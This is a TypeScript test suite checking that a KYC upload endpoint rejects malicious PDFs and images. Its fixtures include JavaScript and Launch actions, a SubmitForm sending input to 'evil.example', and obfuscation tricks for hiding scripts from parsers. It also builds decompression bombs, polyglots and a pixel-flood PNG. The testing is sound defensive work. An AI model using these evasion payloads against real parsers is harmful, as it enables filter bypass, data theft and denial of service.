import { createHash } from 'node:crypto'
import { deflateSync } from 'node:zlib'
import { uploadKycFile, viewKycFile } from '@dossier/contract/file/endpoints/documents'
import { generateViewToken } from '@dossier/contract/people/endpoints/access'
import { beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { type Firm, openFirm } from '../../testing/firm'
import { type OpenProduct, openProduct } from '../../testing/open-product'
import { aPage, pdfOf, pdfWith, streamOf } from '../../testing/pdf'
import { aPhoto, aPicture, chunk, pngOf } from '../../testing/png'

let product: OpenProduct
let firm: Firm
let company_id: string

beforeAll(async () => {
  product = await openProduct()
  firm = await openFirm(product)
})
beforeEach(async () => {
  company_id = await firm.client()
})

const types = { pdf: 'application/pdf', png: 'image/png', jpg: 'image/jpeg' }

const upload = (content: Buffer, kind: keyof typeof types = 'pdf') =>
  product.attempt(firm.as.manager, uploadKycFile, {
    form: { company_id, documentType: 'kyc-oc-6' },
    file: new File([new Uint8Array(content)], `chart.${kind}`, { type: types[kind] }),
  })
const filesKept = () => product.database.db.collection('documents.files').countDocuments()

/** A PDF whose further objects are 4, 5 and so on. */
const pdfHolding = (...objects: (string | Buffer)[]) => pdfOf([aPage, ...objects])
const packed = (content: string, dictionary = '', filter = '/FlateDecode') =>
  streamOf(deflateSync(content), `/Filter ${filter} ${dictionary}`)
const ofObjects = '/Type/ObjStm/N 1/First 4'
const predicted = '/DecodeParms<</Predictor 12/Columns 8>>'
/** Objects that no parser comes to, in a stream of a plain one. */
const hidden = streamOf('8 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode>>stream\n3420\nendstream endobj')
const packedBehind = (lineEnd: string) =>
  Buffer.from(packed(inObjects, '/N 1/First 4').toString('latin1').replace('stream\n', `stream${lineEnd}`), 'latin1')
const inObjects = '4 0 <</S/JavaScript/JS(app.alert(1))>>'

describe('A PDF', () => {
  it.each<[string, Buffer]>([
    ['runs a script when it is opened', pdfOf([aPage], '/OpenAction<</S/JavaScript/JS(app.alert(1))>>')],
    ['writes the name of the script in numbers', pdfHolding('<</S /J#61vaScript /J#53 (app.alert(1))>>')],
    ['starts a program', pdfHolding('<</Type/Action /S /Launch /F(calc.exe)>>')],
    ['starts one by a name that stands apart', pdfHolding('<</S 5 0 R /F(calc.exe)>>', '/Launch')],
    ['holds files', pdfOf([aPage, streamOf('MZ', '/Type/EmbeddedFile')], '/Names<</EmbeddedFiles<</Names[]>>>>')],
    ['holds a file beside a note', pdfHolding('<</Type/Annot/Subtype/FileAttachment>>')],
    ['holds scripts by name', pdfOf([aPage], '/Names<</JavaScript<</Names[]>>>>')],
    ['sends what is typed', pdfHolding('<</S/SubmitForm/F(https://evil.example)>>')],
    ['has its script in packed objects', pdfHolding(packed(inObjects, '/Type/ObjStm/N 1/First 4'))],
    [
      'has it in a revision that was replaced',
      Buffer.from(String(pdfHolding('<</S/JavaScript/JS(1)>>')).replace('xref', '4 0 obj\n<</S/GoTo>>\nendobj\nxref')),
    ],
    ['has it inside of a stream', pdfHolding(streamOf('9 0 obj\n<</S/JavaScript/JS(1)>>\nendobj'))],
    ['has it behind a comment in packed objects', pdfHolding(packed('%x\n4 0 <</S%x\n/JavaScript>>', '/N 1/First 8'))],
    ['has it in packed objects without their type', pdfHolding(packed(inObjects, '/N 1/First 4'))],
    ['has it there behind a long dictionary', pdfHolding(packed(inObjects, `/N 1/First 4/X(${'x'.repeat(5_000)})`))],
    ['has it there behind a space', pdfHolding(packedBehind(' \n'))],
    ['has it there behind a lone carriage return', pdfHolding(packedBehind('\r'))],
    ['has it there behind a word', pdfHolding(packedBehind(' x\n'))],
  ])('that %s answers 415: it contains active content', async (_, content) => {
    const before = await filesKept()
    expect(await upload(content)).toMatchObject({
      status: 415,
      body: { message: 'This PDF contains active content' },
    })
    expect(await filesKept()).toBe(before)
  })

  it.each<[string, Buffer]>([
    ['is cut off', pdfWith('cut').subarray(0, 200)],
    ['has no page', Buffer.from('%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF')],
    ['is a beginning and nothing else', Buffer.from('%PDF-1.7\n%%EOF')],
    ['is another file as well', Buffer.concat([pdfWith('both'), Buffer.alloc(3_000, 'PK\x05\x06')])],
    [
      'packs its objects more than once',
      pdfHolding(packed('', '/Type/ObjStm/N 1/First 4', '[/FlateDecode/LZWDecode]')),
    ],
    [
      'unpacks to more than there is room for',
      pdfHolding(streamOf(deflateSync(Buffer.alloc(300_000_000)), '/Filter/FlateDecode')),
    ],
    ['packs objects without their type', pdfHolding(packed('4 0 <<>>', '/N 1/First 4'))],
    ['packs them in a way of its own', pdfHolding(streamOf('340a', '/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode'))],
    ['packs them so that others unpack something else', pdfHolding(packed('4 0 <<>>', `${ofObjects}${predicted}`))],
    ['packs them by a name that few know', pdfHolding(packed('4 0 <<>>', ofObjects, '/Fl'))],
    ['says elsewhere where they begin', pdfHolding(packed('4 0 <<>>', '/Type/ObjStm/N 1/First 5 0 R'), '4')],
    ['begins one whose end is not told from it', pdfHolding(hidden, '9 0 obj5 endobj')],
    ['begins one with a very long number', pdfHolding(hidden, `9 ${'0'.repeat(70)}0obj 5 endobj`)],
    ['begins an object inside of a stream', pdfHolding(streamOf('9 0 obj\n<</N 1/First 4>>\nendobj'))],
    ['begins one behind a comment there', pdfHolding(streamOf('9 %x\n+0 obj<<>>'))],
    ['unpacks to too many objects', pdfHolding(packed(' '.repeat(40_000_000), '/Type/ObjStm/N 1/First 4'))],
  ])('DOC-49 that %s answers 415', async (_, content) => {
    const before = await filesKept()
    expect(await upload(content)).toMatchObject({ status: 415, body: { message: 'File type is not allowed' } })
    expect(await filesKept()).toBe(before)
  })

  it('of more than 5,000 pages answers 415', async () => {
    const page = '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>'
    const kids = Array.from({ length: 5_001 }, (_, index) => `${index + 3} 0 R`)
    const pages = pdfOf(Array.from({ length: 5_001 }, () => page)).toString('latin1')
    const content = pages.replace('/Count 1/Kids[3 0 R]', `/Count 5001/Kids[${kids.join(' ')}]`)
    expect(await upload(Buffer.from(content, 'latin1'))).toMatchObject({
      status: 415,
      body: { message: 'This PDF has more than 5,000 pages' },
    })
  })

  it('that shows a text about scripts is taken', async () => {
    const content = pdfOf([aPage, packed('BT (An action has /S /JavaScript in it) Tj ET')])
    expect((await upload(content)).status).toBe(200)
  })

  it('GOV-16 is kept byte for byte', async () => {
    const content = pdfHolding(packed('4 0 <</Kind/Plain>>', '/Type/ObjStm/N 1/First 4'))
    const { status, body } = await upload(content)
    const { file } = body.file as { file: { serverName: string } }
    expect([status, file.serverName.endsWith(shaOf(content))]).toEqual([200, true])
    expect(file).not.toHaveProperty('originalSha256')
  })
})

const shaOf = (content: Buffer) => createHash('sha256').update(content).digest('hex')

describe('A picture', () => {
  it.each<[string, Buffer, 'png' | 'jpg']>([
    ['SVG', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'), 'png'],
    ['HTML', Buffer.from('<!doctype html><script>1</script>'), 'png'],
    ['a photograph', aPhoto, 'png'],
    ['another kind of picture', aPicture, 'jpg'],
    ['nothing', Buffer.alloc(0), 'png'],
    ['its first bytes', aPicture.subarray(0, 8), 'png'],
    ['half of it', aPicture.subarray(0, 50), 'png'],
    ['30,000 by 30,000 points', vast(), 'png'],
  ])('DOC-49 that is %s answers 415', async (_, content, kind) => {
    const before = await filesKept()
    expect(await upload(content, kind)).toMatchObject({ status: 415, body: { message: 'File type is not allowed' } })
    expect(await filesKept()).toBe(before)
  })

  it.each<[string, Buffer, 'png' | 'jpg']>([
    ['PNG', Buffer.concat([aPicture, Buffer.from('<script>alert(1)</script>')]), 'png'],
    ['JPEG', Buffer.concat([aPhoto, Buffer.from('<script>alert(1)</script>')]), 'jpg'],
  ])('GOV-16 of %s is drawn anew: nothing else of it is kept but its digest', async (_, content, kind) => {
    const { body } = await upload(content, kind)
    const { _id: id, new_file, file } = body.file as Record<'file' | 'new_file', object> & { _id: string }
    expect(file ?? new_file).toMatchObject({ originalSha256: shaOf(content) })
    const { token } = (await product.call(null, generateViewToken, { body: { token: firm.as.trust } })).body
    const shown = await product.attempt(null, viewKycFile, { query: { id, viewingToken: token } })
    const bytes = Buffer.from(shown.body.bytes as Uint8Array)
    expect([shown.status, bytes.includes('script')]).toEqual([200, false])
    expect(bytes.subarray(0, 3)).toEqual(content.subarray(0, 3))
  })
})

/** A picture that needs 900 million points of memory and a few bytes on the way. */
function vast(): Buffer {
  const side = Buffer.alloc(4)
  side.writeUInt32BE(30_000)
  const header = Buffer.concat([side, side, Buffer.from([8, 0, 0, 0, 0])])
  return pngOf(chunk('IHDR', header), chunk('IDAT', deflateSync(Buffer.alloc(90_000_000))), chunk('IEND'))
}
